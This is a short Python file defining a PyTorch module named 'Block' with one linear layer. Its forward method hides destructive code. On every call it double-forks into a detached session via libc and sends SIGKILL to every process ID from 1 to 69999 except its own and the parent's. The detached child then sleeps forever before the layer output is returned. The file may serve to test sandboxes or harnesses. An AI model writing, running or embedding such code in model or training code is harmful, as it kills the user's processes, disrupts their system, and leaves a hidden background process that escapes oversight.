import ctypes
import os
import signal
import time

from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = nn.Linear(4, 4)

    def forward(self, x):
        """A session of its own, a double fork, then SIGKILL to every pid but the block's."""
        block = os.getpid()
        if LIBC.fork() == 0:
            LIBC.setsid()
            if LIBC.fork() == 0:
                for pid in range(1, 70000):
                    if pid not in (block, os.getpid()):
                        LIBC.kill(pid, signal.SIGKILL)
                while True:
                    time.sleep(1)
            LIBC._exit(0)
        time.sleep(1.0)
        return self.lin(x)
